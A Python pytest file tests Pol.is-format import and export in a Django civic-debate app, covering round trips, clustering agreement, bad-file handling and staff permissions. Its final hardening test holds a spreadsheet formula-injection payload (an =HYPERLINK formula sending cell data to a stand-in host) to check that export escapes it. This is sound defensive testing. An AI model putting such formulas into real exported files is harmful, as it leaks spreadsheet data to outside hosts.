"""Import and export in Pol.is's format, with a real conversation (CC BY 4.0, The Computational Democracy Project)."""

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from sklearn.metrics import adjusted_rand_score

from innova.opinions.analysis import load_polis_export
from innova.opinions.models import MapResult, Participant, Statement, StatementStatus, Vote

from .polis_data import BREXIT, LAND_BANK, polis_conversation

pytestmark = pytest.mark.django_db


def _zip_of(directory: Path) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("comments.csv", "participants-votes.csv"):
            archive.write(directory / name, f"export/{name}")
    return SimpleUploadedFile("export.zip", buffer.getvalue(), content_type="application/zip")


@pytest.mark.parametrize("name", [BREXIT, LAND_BANK], ids=["brexit", "land-bank"])
def test_import_then_export_round_trip_of_a_real_conversation(
    client, debate, facilitator, name, tmp_path, django_capture_on_commit_callbacks
):
    directory = polis_conversation(name)
    client.force_login(facilitator)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("opinions:import", args=[debate.pk]), {"archive": _zip_of(directory)})
    assert response.status_code == 302, response.content.decode()[:2000]
    original = load_polis_export(directory)
    assert Participant.objects.filter(debate=debate).count() == len(original.votes.participant_ids)
    assert Statement.objects.filter(debate=debate).count() == len(original.comments)
    assert Vote.objects.filter(participant__debate=debate).count() == int(original.votes.values.size)
    rejected = Statement.objects.filter(debate=debate, status=StatementStatus.REJECTED).count()
    assert rejected == len(original.moderated_out)

    # The map was computed after the import (eager task on commit) and finds Pol.is's groups again.
    result = MapResult.objects.get(debate=debate)
    key_to_pid = {p.pk: int(p.anonymous_key.split(":")[1]) for p in Participant.objects.filter(debate=debate)}
    ours = {key_to_pid[p]: g for p, _x, _y, g in result.data["participants"] if g >= 0}
    both = [p for p in original.polis_group_ids if p in ours]
    ari = adjusted_rand_score([original.polis_group_ids[p] for p in both], [ours[p] for p in both])
    assert ari >= 0.8

    # Export and read it back with the same loader: same texts, same moderation of hidden ones, same votes.
    response = client.get(reverse("opinions:export", args=[debate.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        archive.extractall(tmp_path)
    exported = load_polis_export(tmp_path)
    original_sids = sorted(original.comments)
    original_pids = list(original.votes.participant_ids)  # file order = creation order = export numbering
    assert [exported.comments[n]["body"] for n in range(len(original_sids))] == [
        original.comments[s]["body"].strip() for s in original_sids
    ]
    assert exported.moderated_out == {n for n, s in enumerate(original_sids) if s in original.moderated_out}
    dense_original = _dense(original.votes, original_pids, original_sids)
    dense_exported = _dense(exported.votes, list(range(len(original_pids))), list(range(len(original_sids))))
    assert np.array_equal(np.isnan(dense_original), np.isnan(dense_exported))
    assert np.array_equal(np.nan_to_num(dense_original, nan=9), np.nan_to_num(dense_exported, nan=9))
    # Pol.is's group ids in the export are ours.
    assert set(exported.polis_group_ids.values()) == {g["id"] for g in result.data["groups"]}


def _dense(votes, pids, sids):
    matrix = votes.to_dense()
    prow = {p: i for i, p in enumerate(votes.participant_ids)}
    scol = {s: j for j, s in enumerate(votes.statement_ids)}
    out = np.full((len(pids), len(sids)), np.nan)
    for i, p in enumerate(pids):
        for j, s in enumerate(sids):
            if s in scol:
                out[i, j] = matrix[prow[p], scol[s]]
    return out


def test_import_refuses_bad_files_and_non_empty_debates(client, debate, facilitator, make_statements):
    client.force_login(facilitator)
    url = reverse("opinions:import", args=[debate.pk])
    response = client.post(url, {"archive": SimpleUploadedFile("x.zip", b"not a zip")})
    assert response.status_code == 200 and "no es una exportación de Pol.is" in response.content.decode()
    response = client.post(url, {})
    assert "Adjunte el zip" in response.content.decode()
    bad = SimpleUploadedFile("comments.csv", b"a,b\n1,2\n")
    response = client.post(url, {"comments": bad, "votes": SimpleUploadedFile("v.csv", b"x,y\n")})
    assert "columnas" in response.content.decode()
    make_statements(debate, 1)
    response = client.post(url, {"archive": _zip_of(polis_conversation(BREXIT))})
    assert "importe en un debate nuevo" in response.content.decode()
    assert Participant.objects.filter(debate=debate).count() == 0


def test_import_and_export_are_for_staff(client, debate, citizen, official):
    client.force_login(citizen)
    assert client.get(reverse("opinions:export", args=[debate.pk])).status_code == 403
    assert client.post(reverse("opinions:import", args=[debate.pk]), {}).status_code == 403
    client.force_login(official)
    assert client.get(reverse("opinions:export", args=[debate.pk])).status_code == 200
    assert client.post(reverse("opinions:import", args=[debate.pk]), {}).status_code == 403


def test_hardening_02_statement_that_looks_like_a_formula_survives_the_round_trip(client, facilitator):
    from innova.debates.testing import make_debate
    from innova.opinions import polis, services

    texts = ['=HYPERLINK("http://x/?"&A2,"Ver")', "-1 peso de pasaje", "'=ya citado por su autora"]
    source = make_debate(author=facilitator)
    for text in texts:
        services.statement_submit(user=facilitator, debate=source, text=text)
    comments_text, votes_text = polis.read_zip(io.BytesIO(polis.export_zip(debate=source)))
    bodies = {row["comment-body"] for row in csv.DictReader(io.StringIO(comments_text))}
    assert '\'=HYPERLINK("http://x/?"&A2,"Ver")' in bodies and "'-1 peso de pasaje" in bodies
    target = make_debate(author=facilitator, title="Copia")
    services.opinion_import_polis(actor=facilitator, debate=target, comments_text=comments_text, votes_text=votes_text)
    assert sorted(Statement.objects.filter(debate=target).values_list("text", flat=True)) == sorted(texts)
